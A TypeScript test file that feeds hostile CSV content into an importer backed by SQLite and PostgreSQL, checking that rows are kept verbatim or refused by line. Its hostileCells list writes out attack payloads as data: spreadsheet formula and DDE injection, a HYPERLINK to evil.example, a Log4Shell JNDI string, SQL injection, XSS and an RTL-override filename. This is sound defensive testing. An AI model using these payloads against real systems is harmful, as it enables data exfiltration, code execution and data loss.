/**
 * Hostile CSV content through the csv importer into a real store (a SQLite file; PostgreSQL
 * for what PostgreSQL can't store): formula injection, control characters, quotes and
 * delimiters in cells, RTL overrides, 1 MB cells, NUL, bytes that are not UTF-8, broken
 * quoting. Every row is imported verbatim or refused with its line named, and a refused row
 * leaves nothing of itself behind: the store equals exactly the rows that were applied.
 *
 * The sql connector's hostile-content cases live in `packages/sql-source/test/HostileContent.test.ts`.
 */
import { ConnectorRegistry, Domain, Engine, Integrations, Storage } from "@acd-bridge/core"
import { CsvConnector, CsvImporter } from "@acd-bridge/csv"
import { SqlStorage } from "@acd-bridge/sql-storage"
import { afterAll, assert, describe, inject, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as Layer from "effect/Layer"
import * as Redacted from "effect/Redacted"
import { execFileSync } from "node:child_process"
import { randomUUID } from "node:crypto"
import * as fs from "node:fs"
import * as path from "node:path"
import { changedTables, sqliteDigest } from "./support/digest.js"
import { tempDir } from "./support/harness.js"
import { summary } from "./support/summary.js"

const counts = summary(import.meta.filename)
afterAll(() => counts.flush())

/** Queues whose stored totals differ from the expected ones (missing, extra or wrong): the losses. */
const lossesOf = (got: Map<string, unknown>, want: Map<string, unknown>) =>
  [...new Set([...got.keys(), ...want.keys()])].filter((k) => JSON.stringify(got.get(k)) !== JSON.stringify(want.get(k))).length

const tenant = Domain.TenantId.make("tenant-csv")
const header = "Queue,Queue name,Start,Handled,Duration\r\n"

const config = (folder: string, extra: Record<string, unknown> = {}) => ({
  source: { folder },
  layout: "contacts",
  channel: "calls",
  timezone: "UTC",
  timestampFormat: "YYYY-MM-DD HH:mm:ss",
  columns: { queueIdentifier: "Queue", queueName: "Queue name", timestamp: "Start", handled: "Handled", duration: "Duration" },
  chunkSize: 2,
  ...extra
})

const hostsOn = (storage: Layer.Layer<Storage.Storage, unknown>) =>
  CsvImporter.CsvImporter.Default.pipe(
    Layer.provideMerge(Engine.layer),
    Layer.provideMerge(Layer.mergeAll(storage, ConnectorRegistry.layer(CsvConnector.connector)))
  ).pipe(Layer.orDie)

/** One CSV field, quoted as RFC 4180 wants (a quote doubled). */
const field = (text: string) => `"${text.replaceAll("\"", "\"\"")}"`

interface Row {
  readonly queue: string
  readonly name: string
  readonly start: string
  readonly handled: string
  readonly duration: string
}

const line = (r: Row) => [r.queue, r.name, r.start, r.handled, r.duration].map(field).join(",") + "\r\n"

/** Every queue the integration has, as stored, and the contacts counted per queue. */
const stored = (integrationId: Domain.IntegrationId) =>
  Effect.gen(function*() {
    const storage = yield* Storage.Storage
    const queues = yield* storage.queues.list({ tenantId: tenant, integrationId })
    const stats = yield* storage.data.intervalStats({ tenantId: tenant, integrationId, from: 0, to: 8_000_000_000_000 })
    const byQueue = new Map<string, { offered: number; handlingMs: number }>()
    for (const s of stats) {
      const q = queues.find((x) => x.id === s.queueId)!
      const key = JSON.stringify([q.identifier, q.name])
      const sum = byQueue.get(key) ?? { offered: 0, handlingMs: 0 }
      sum.offered += s.offered
      sum.handlingMs += s.handlingMs
      byQueue.set(key, sum)
    }
    return byQueue
  })

const expectedOf = (rows: ReadonlyArray<Row>) => {
  const byQueue = new Map<string, { offered: number; handlingMs: number }>()
  for (const r of rows) {
    const key = JSON.stringify([r.queue.trim(), r.name.trim()])
    const sum = byQueue.get(key) ?? { offered: 0, handlingMs: 0 }
    sum.offered += 1
    sum.handlingMs += Math.round(Number(r.duration) * 1000)
    byQueue.set(key, sum)
  }
  return byQueue
}

const createIntegration = (folder: string, extra: Record<string, unknown> = {}) =>
  Effect.flatMap(Integrations.Integrations, (s) =>
    s.create(tenant, { name: "CSV", connector: "csv", deliveryMode: "on-premise", timezone: "UTC", config: config(folder, extra) })).pipe(
      Effect.map((r) => r.integration)
    )

/** Cells a spreadsheet, a terminal or a log viewer would take for something else. */
const hostileCells: ReadonlyArray<string> = [
  "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C notepad'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=1+1\t",
  "a\u0001b\u001bc\u007fd",
  "line\nbreak",
  "carriage\rreturn",
  "quote \" and , comma; semicolon",
  "\u202Egnp.exe",
  "zero\u200Bwidth",
  "emoji 😀 and 日本語",
  "<script>alert(1)</script>",
  "'; DROP TABLE queues; --",
  "${jndi:ldap://evil.example/a}",
  "%s%s%s%n",
  "\\u0000 as text"
]

const rowsOf = (cells: ReadonlyArray<string>, from = 0): Array<Row> =>
  cells.map((cell, i) => ({
    queue: cell,
    name: `${cell} name`,
    start: `2026-03-02 09:${String((from + i) % 60).padStart(2, "0")}:00`,
    handled: "1",
    duration: String(10 + i)
  }))

describe("csv importer under hostile content (SQLite file)", () => {
  it.scoped("formula injection, control characters, quotes, RTL and scripts are imported verbatim", () =>
    Effect.gen(function*() {
      const dir = tempDir("acd-rel-csv-")
      yield* Effect.addFinalizer(() => Effect.sync(dir.remove))
      const folder = path.join(dir.path, "in")
      fs.mkdirSync(folder)
      const rows = rowsOf(hostileCells)
      const file = path.join(folder, "hostile.csv")
      fs.writeFileSync(file, header + rows.map(line).join(""))
      yield* Effect.gen(function*() {
        const integration = yield* createIntegration(folder)
        const importer = yield* CsvImporter.CsvImporter
        const result = yield* importer.importFile(integration, file)
        assert.strictEqual(result?.outcome, "imported")
        assert.deepStrictEqual([result?.read, result?.applied, result?.rejected], [rows.length, rows.length, 0], JSON.stringify(result?.problems))
        // cells are trimmed (documented); everything else is kept character for character
        const got = yield* stored(integration.id)
        counts.record({ case: "hostile cells kept verbatim", inputs: rows.length, faults: rows.length, losses: lossesOf(got, expectedOf(rows)), note: `${rows.length} rows of formula injection, control characters, RTL, scripts: all imported verbatim` })
        assert.deepStrictEqual(got, expectedOf(rows))
      }).pipe(Effect.provide(hostsOn(SqlStorage.layerSqlite({ filename: path.join(dir.path, "csv.sqlite") }))))
    }), 60_000)

  it.scoped("1 MB cells, NUL, bytes that are not UTF-8, broken quoting: the row is refused with its line, the rest applied exactly", () =>
    Effect.gen(function*() {
      const dir = tempDir("acd-rel-csv-")
      yield* Effect.addFinalizer(() => Effect.sync(dir.remove))
      const folder = path.join(dir.path, "in")
      fs.mkdirSync(folder)
      const good = rowsOf(["ok-1", "ok-2", "ok-3", "ok-4", "ok-5", "ok-6"])
      const parts: Array<Buffer> = [Buffer.from(header)]
      // line 2: good; 3: a 1 MB identifier; 4: good; 5: a 1 MB duration; 6: good;
      // 7: bytes that are not UTF-8 in the identifier; 8: good; 9: NUL in the name; 10: good;
      // 11: a broken quote; 12: good (csv-parse's recovery after a broken quote is its own: see below)
      parts.push(Buffer.from(line(good[0]!)))
      parts.push(Buffer.from(line({ ...good[0]!, queue: "x".repeat(1_000_000) })))
      parts.push(Buffer.from(line(good[1]!)))
      parts.push(Buffer.from(line({ ...good[1]!, duration: "9".repeat(1_000_000) })))
      parts.push(Buffer.from(line(good[2]!)))
      parts.push(Buffer.concat([Buffer.from("\"bad"), Buffer.from([0xff, 0xfe, 0xc0, 0xaf]), Buffer.from("\",n,2026-03-02 10:00:00,1,5\r\n")]))
      parts.push(Buffer.from(line(good[3]!)))
      parts.push(Buffer.from(line({ ...good[3]!, name: "nul\u0000inside" })))
      parts.push(Buffer.from(line(good[4]!)))
      parts.push(Buffer.from("x\"y,n,2026-03-02 10:00:00,1,5\r\n"))
      parts.push(Buffer.from(line(good[5]!)))
      const file = path.join(folder, "mixed.csv")
      fs.writeFileSync(file, Buffer.concat(parts))
      const filename = path.join(dir.path, "csv.sqlite")
      yield* Effect.gen(function*() {
        const integration = yield* createIntegration(folder)
        const importer = yield* CsvImporter.CsvImporter
        const result = yield* importer.importFile(integration, file)
        assert.strictEqual(result.outcome, "imported")
        const problems = result.problems.map((p) => [p.line, p.column])
        assert.deepStrictEqual(problems, [[3, "Queue"], [5, "Duration"], [7, "Queue"], [9, "Queue name"], [11, "Queue"]], JSON.stringify(result.problems).slice(0, 2000))
        // a reason quotes what it refuses, but not a megabyte of it (the first 1,000 problems are kept on the run)
        for (const p of result.problems) assert.isBelow(p.reason.length, 400, p.reason.slice(0, 400))
        assert.deepStrictEqual([result.read, result.applied, result.rejected], [11, 6, 5])
        // nothing of a refused row: exactly the good rows, whole, nothing else
        const got = yield* stored(integration.id)
        counts.record({ case: "1 MB cells, NUL, bad UTF-8, broken quoting", inputs: 11, faults: 5, losses: lossesOf(got, expectedOf(good)), note: "5 hostile rows refused with their line, 6 good rows applied exactly" })
        assert.deepStrictEqual(got, expectedOf(good))
        // no identifier was stored with a replacement character the file never had
        const queues = yield* Effect.flatMap(Storage.Storage, (s) => s.queues.list({ tenantId: tenant }))
        for (const q of queues) assert.notInclude(q.identifier, "\uFFFD")
      }).pipe(Effect.provide(hostsOn(SqlStorage.layerSqlite({ filename }))))
    }), 60_000)

  it.scoped("strict mode: one hostile row refuses the whole file; the store is unchanged", () =>
    Effect.gen(function*() {
      const dir = tempDir("acd-rel-csv-")
      yield* Effect.addFinalizer(() => Effect.sync(dir.remove))
      const folder = path.join(dir.path, "in")
      fs.mkdirSync(folder)
      const rows = rowsOf(hostileCells)
      const bad = { ...rows[0]!, duration: "=1+1" }
      const file = path.join(folder, "strict.csv")
      fs.writeFileSync(file, header + [...rows.slice(0, 9), bad, ...rows.slice(9)].map(line).join(""))
      const filename = path.join(dir.path, "csv.sqlite")
      yield* Effect.gen(function*() {
        const integration = yield* createIntegration(folder, { strict: true })
        const before = sqliteDigest(filename)
        const importer = yield* CsvImporter.CsvImporter
        const result = yield* importer.importFile(integration, file)
        assert.strictEqual(result?.outcome, "rejected")
        assert.strictEqual(result?.applied, 0)
        // the line the bad row starts on (the cell with a line break makes it later than its index)
        assert.deepStrictEqual(result?.problems.map((p) => [p.column, p.reason.includes("=1+1")]), [["Duration", true]])
        assert.isAbove(result!.problems[0]!.line!, 10)
        // only the run that says so was written (and the file moved to failed/)
        const changed = Object.keys(changedTables(before, sqliteDigest(filename)))
        counts.record({ case: "strict mode refuses the whole file", inputs: rows.length + 1, faults: 1, losses: changed.filter((t) => t !== "import_runs").length, note: "one hostile row in strict mode: nothing applied, only the run recorded" })
        assert.deepStrictEqual(changed, ["import_runs"])
        assert.isTrue(fs.existsSync(path.join(folder, "failed", "strict.csv")))
      }).pipe(Effect.provide(hostsOn(SqlStorage.layerSqlite({ filename }))))
    }), 60_000)
})

describe("csv importer under hostile content (PostgreSQL)", () => {
  it.scoped("a NUL in a cell is refused with its line (PostgreSQL can't store it), the rest applied exactly", () =>
    Effect.gen(function*() {
      const base = process.env["ACD_BRIDGE_TEST_PG_URL"] ?? inject("acdBridgeTestPgUrl")
      const name = `acd_rel_csv_${randomUUID().replace(/-/g, "")}`
      execFileSync("psql", [base, "-c", `CREATE DATABASE ${name}`], { stdio: "ignore" })
      yield* Effect.addFinalizer(() =>
        Effect.sync(() => execFileSync("psql", [base, "-c", `DROP DATABASE IF EXISTS ${name} WITH (FORCE)`], { stdio: "ignore" }))
      )
      const url = new URL(base)
      url.pathname = `/${name}`
      const dir = tempDir("acd-rel-csv-")
      yield* Effect.addFinalizer(() => Effect.sync(dir.remove))
      const folder = path.join(dir.path, "in")
      fs.mkdirSync(folder)
      const good = rowsOf(["ok-1", "ok-2", ...hostileCells])
      const nul = { ...good[0]!, queue: "nul\u0000inside" }
      const file = path.join(folder, "nul.csv")
      fs.writeFileSync(file, header + [good[0]!, nul, ...good.slice(1)].map(line).join(""))
      yield* Effect.gen(function*() {
        const integration = yield* createIntegration(folder)
        const importer = yield* CsvImporter.CsvImporter
        const result = yield* importer.importFile(integration, file)
        assert.strictEqual(result?.outcome, "imported", JSON.stringify(result))
        assert.deepStrictEqual(result?.problems.map((p) => p.line), [3])
        const got = yield* stored(integration.id)
        counts.record({ case: "NUL on PostgreSQL", inputs: good.length + 1, faults: 1, losses: lossesOf(got, expectedOf(good)), note: "the NUL row refused with its line, the rest applied exactly" })
        assert.deepStrictEqual(got, expectedOf(good))
      }).pipe(Effect.provide(hostsOn(SqlStorage.layerPg({ url: Redacted.make(url.toString()) }))))
    }), 60_000)
})
